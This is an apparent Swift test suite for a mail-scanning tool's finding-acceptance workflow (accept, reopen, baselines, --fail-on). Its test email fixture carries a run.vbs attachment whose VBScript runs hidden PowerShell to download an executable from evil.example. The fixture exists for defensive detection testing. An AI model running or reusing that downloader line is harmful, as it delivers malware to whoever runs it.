import Foundation
import MailTestSupport
import Testing

/// Baselines: what was looked at and accepted, by content.
@Suite("Accepting findings")
struct AcceptanceTests {
  @Test func anAcceptedFindingIsListedNoMoreUntilItIsReopened() throws {
    let folder = try TemporaryFolder()
    let file = folder.path + "/c.db"
    #expect(try Binary.run(["scan", Fixtures.path("demo"), "--case", file]).status == 0)
    func list(_ more: String...) throws -> [[String: Any]] {
      try Binary.run(["findings", "list", "--case", file, "--format", "jsonl"] + more).objects()
    }
    let all = try list()
    #expect(all.allSatisfy { $0["state"] as? String == "new" })
    let ids = all.compactMap { $0["id"] as? String }
    let first = try #require(ids.first)
    #expect(try Binary.run(["findings", "accept", first, "--case", file]).status == 64)
    #expect(try Binary.run(["findings", "accept", first, "--reason", " ", "--case", file]).status == 64)
    let past = try Binary.run(
      ["findings", "accept", first, "--reason", "x", "--until", "2001-01-01", "--case", file])
    #expect(past.status == 64)
    #expect(try Binary.run(["findings", "accept", "f0", "--reason", "x", "--case", file]).status == 66)
    #expect(try Binary.run(["findings", "accept", first, "--reason", "a drill", "--case", file]).status == 0)
    #expect(try list().compactMap { $0["id"] as? String } == Array(ids.dropFirst()))
    #expect(try list("--accepted").first?["state"] as? String == "accepted")
    let status = try Binary.run(["status", "--case", file, "--format", "json"]).object()
    #expect(status["accepted"] as? Int == 1)
    #expect((status["findings"] as? [String: Int])?.values.reduce(0, +) == ids.count - 1)

    // Accepted by content: judging anew, and sweeping anew, changes nothing.
    #expect(try Binary.run(["rescore", "--case", file]).status == 0)
    #expect(try list().count == ids.count - 1)
    #expect(try Binary.run(["scan", Fixtures.path("demo"), "--restart", "--case", file]).status == 0)
    #expect(try list().count == ids.count - 1)
    let kept = try Binary.run(["findings", "acceptances", "--case", file, "--format", "jsonl"]).objects()
    #expect(kept.compactMap { $0["state"] as? String } == ["used"])
    #expect(try Binary.run(["findings", "reopen", first, "--case", file]).status == 0)
    #expect(try Binary.run(["findings", "reopen", first, "--case", file]).status == 66)
    #expect(try list().count == ids.count)
  }

  @Test func whatIsAcceptedDoesNotFailARunAndWhatIsLeftDoes() throws {
    let folder = try TemporaryFolder()
    let file = folder.path + "/c.db"
    let zip = try folder.write(Self.mailWithAScript("one"), to: "a.eml")
    #expect(try Binary.run(["scan", zip, "--case", file, "--fail-on", "medium"]).status == 10)
    for finding in try Binary.run(["findings", "list", "--case", file, "--format", "jsonl"]).objects() {
      let id = finding["id"] as? String ?? ""
      let until = ["--until", "2999-01-01"]
      #expect(try Binary.run(["findings", "accept", id, "--reason", "known", "--case", file] + until).status == 0)
    }
    #expect(try Binary.run(["scan", zip, "--case", file, "--fail-on", "medium"]).status == 0)
    let more = try folder.write(Self.mailWithAScript("two"), to: "b.eml")
    let again = try Binary.run(["scan", zip, more, "--case", file, "--fail-on", "medium"])
    #expect(again.status == 10)
    #expect(again.output.contains("1 accepted"))
    let new = try Binary.run(["findings", "list", "--new-since", "last", "--case", file, "--format", "jsonl"]).objects()
    #expect(new.compactMap { $0["subject"] as? String } == ["two"])
    #expect(new.allSatisfy { $0["state"] as? String == "new" })
  }

  @Test func aSecondRunCallsOldFindingsUnchangedAndAGoneOneAbsent() throws {
    let folder = try TemporaryFolder()
    let file = folder.path + "/c.db"
    let mail = try folder.write(Self.mailWithAScript("one"), to: "a.eml")
    let other = try folder.write(Self.mailWithAScript("two"), to: "b.eml")
    #expect(try Binary.run(["scan", mail, other, "--case", file]).status == 0)
    #expect(try Binary.run(["scan", mail, other, "--case", file]).status == 0)
    let beside = ["findings", "list", "--case", file, "--format", "jsonl"]
    #expect(try Binary.run(beside + ["--new-since", "0"]).objects().allSatisfy { $0["state"] as? String == "new" })
    #expect(
      try Binary.run(["findings", "list", "--new-since", "last", "--case", file, "--format", "jsonl"]).output == "")
    _ = try folder.write(
      "From: a@corp.example\nSubject: two, without\n\n" + String(repeating: "nothing any more\n", count: 100),
      to: "b.eml")
    let last = try Binary.run(["scan", mail, other, "--case", file])
    #expect(last.output.contains("1 finding of earlier runs is gone"))
  }

  private static func mailWithAScript(_ subject: String) -> String {
    """
    From: Ann <ann@corp.example>
    To: bob@corp.example
    Date: Tue, 14 Sep 2021 08:00:00 +0000
    Message-ID: <\(subject)@corp.example>
    Subject: \(subject)
    MIME-Version: 1.0
    Content-Type: multipart/mixed; boundary=b

    --b
    Content-Type: text/plain

    see \(subject)
    --b
    Content-Type: application/octet-stream; name=run.vbs
    Content-Disposition: attachment; filename=run.vbs

    Set s = CreateObject("WScript.Shell")
    s.Run "powershell -w hidden -c (New-Object Net.WebClient).DownloadFile('http://evil.example/a','a.exe')"
    --b--

    """
  }
}
